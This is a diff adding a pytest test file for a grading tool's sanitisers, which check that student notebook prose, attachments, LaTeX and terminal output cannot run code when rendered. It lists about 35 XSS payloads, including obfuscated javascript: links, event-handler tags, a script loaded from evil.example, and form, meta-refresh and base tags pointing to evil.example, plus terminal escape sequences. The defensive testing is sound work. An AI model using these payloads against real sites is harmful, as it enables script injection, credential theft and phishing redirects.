@@ -1,0 +1,159 @@
+"""What a student wrote does nothing at the grader's: not in a page that nbconvert makes, and not in a terminal."""
+
+import base64
+import time
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+from nbconvert import HTMLExporter
+
+from instructor.grading.submission.harmless import (
+    for_terminal,
+    harmless_attachments,
+    harmless_latex,
+    harmless_markdown,
+    is_picture,
+    with_policy,
+)
+from instructor.grading.submission.outputs import clean_outputs
+
+ATTACKS = [
+    "<svg onload=alert(1)>",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href='javascript:alert(1)'>here</a>",
+    "[here](javascript:alert(1))",
+    "[here](JaVaScRiPt:alert(1))",
+    "[here](java\tscript:alert(1))",
+    "[here](&#106;avascript:alert(1))",
+    "[here](&#x6A;avascript&colon;alert(1))",
+    "[here](data:text/html;base64,PHNjcmlwdD4=)",
+    "[here][x]\n\n[x]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    '![x](x" onerror="alert(1))',
+    '![x](x "t\\" onerror=\\"alert(1)")',
+    "`<svg onload=alert(1)>`",
+    "```html\n<svg onload=alert(1)>\n```",
+    "    <svg onload=alert(1)>",
+    "| a |\n|---|\n| <svg onload=alert(1)> |",
+    "> <svg onload=alert(1)>",
+    "- <svg\nonload=alert(1)>",
+    "$<svg onload=alert(1)>$",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "$\\style{background:url(x)}{x} \\cssId{a}{x} \\class{b}{x} \\require{html}$",
+    "<!--><svg onload=alert(1)>-->",
+    "<![CDATA[<svg onload=alert(1)>]]>",
+    "<?xml version='1.0'?><svg onload=alert(1)>",
+    "<\x00svg onload=alert(1)>",
+    "<<svg onload=alert(1)>>",
+    "</div></body><svg onload=alert(1)>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<form action=//evil.example><input name=_xsrf><button>grade</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+]
+
+
+class _Page(HTMLParser):
+    """What a page would run: tags with handlers, scripts, frames and links with a scheme of their own."""
+
+    def __init__(self):
+        super().__init__()
+        self.found = []
+
+    def handle_starttag(self, tag, attributes):
+        bad = tag in ("svg", "iframe", "script", "math", "form", "meta", "base", "input", "style", "object", "embed")
+        for name, value in attributes:
+            target = (value or "").strip().lower().replace("\t", "")
+            bad |= name.startswith("on") or target.startswith(("javascript:", "data:text", "vbscript:", "//evil"))
+        if bad:
+            self.found.append((tag, attributes))
+
+
+@pytest.fixture(scope="module")
+def exporter():
+    return HTMLExporter(template_name="basic")
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_prose_runs_nothing_in_a_page(exporter, attack):
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(harmless_markdown(attack))])
+    page, _ = exporter.from_notebook_node(notebook)
+    reader = _Page()
+    reader.feed(page)
+    assert reader.found == [], page
+    assert "\\href" not in page and "\\require" not in page
+
+
+def test_the_attacks_do_something_where_nobody_cleans(exporter):
+    """The test above can fail."""
+    found = []
+    for attack in ATTACKS:
+        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(attack)])
+        reader = _Page()
+        reader.feed(exporter.from_notebook_node(notebook)[0])
+        found.append(bool(reader.found))
+    assert sum(found) >= 15
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It is $a < b$ and $b > a$.",
+        "> a quotation",
+        "`x = 1`",
+        "[a link](https://pytorch.org)",
+        "1 < 2 & 3",
+        "**bold**",
+    ],
+)
+def test_honest_prose_stays_as_it_is(text):
+    assert harmless_markdown(text) == text
+
+
+def test_prose_that_nbconvert_would_take_minutes_for_is_cut(exporter):
+    began = time.process_time()
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(harmless_markdown("[" * 120_000))])
+    exporter.from_notebook_node(notebook)
+    assert time.process_time() - began < 5
+
+
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
+
+
+def test_pasted_pictures_are_kept_and_nothing_else():
+    given = {
+        "image.png": {"image/png": PNG, "text/html": "<svg>"},
+        "x.svg": {"image/svg+xml": "<svg onload=alert(1)>"},
+        'x" onerror="alert(1)': {"image/png": PNG},
+        "bad.png": {"image/png": '" onerror="alert(1)'},
+    }
+    assert harmless_attachments(given) == {"image.png": {"image/png": PNG}}
+    assert harmless_attachments(["x"]) == {}
+
+
+def test_a_picture_is_base64_and_latex_has_no_links():
+    shown = {"image/png": '" onerror="alert(1)', "text/latex": r"$\href{javascript:alert(1)}{x}$", "text/plain": "x"}
+    (output,) = clean_outputs([{"output_type": "display_data", "data": shown}])
+    assert output["data"] == {"text/latex": r"$\ href{javascript:alert(1)}{x}$", "text/plain": "x"}
+    assert is_picture("image/png", PNG) and not is_picture("image/svg+xml", PNG)
+    assert harmless_latex(r"\frac{a}{b}") == r"\frac{a}{b}"
+
+
+def test_a_terminal_is_not_sent_what_it_would_obey():
+    assert for_terminal("\x1b[2J\x1b]0;title\x07ok\r\n") == r"\x1b[2J\x1b]0;title\x07ok\r\n"
+    assert for_terminal("a\u202egnp.exe") == r"a\u202egnp.exe"
+    assert len(for_terminal("x" * 1000)) == 300
+
+
+def test_a_page_of_feedback_runs_its_own_scripts_only():
+    page = (
+        '<html><head><script src="https://cdn.example/m.js"></script></head><body><script>go()</script></body></html>'
+    )
+    made = with_policy(page)
+    policy = made.split('content="')[1].split('"')[0]
+    assert "default-src 'none'" in policy and "script-src https://cdn.example 'sha256-" in policy
+    assert "'unsafe-inline'" not in policy.split("script-src")[1]
